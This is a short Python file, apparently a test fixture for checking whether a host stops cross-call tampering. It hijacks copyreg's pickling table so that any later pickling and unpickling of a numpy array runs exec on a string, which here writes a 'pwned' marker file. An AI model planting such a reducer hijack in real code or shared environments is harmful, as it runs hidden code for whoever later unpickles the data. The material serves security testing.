"""Puts a program into the table by which ordinary arrays are pickled, for all who come later.

harm: wrote
stopped by: host
"""

import sys

import numpy as np

PROGRAM = "open('@FOLDER@/pwned', 'w').write('x')"

sys.modules["copyreg"].dispatch_table[np.ndarray] = lambda array: (exec, (PROGRAM,))


def f(x):
    return np.zeros((4, 4))
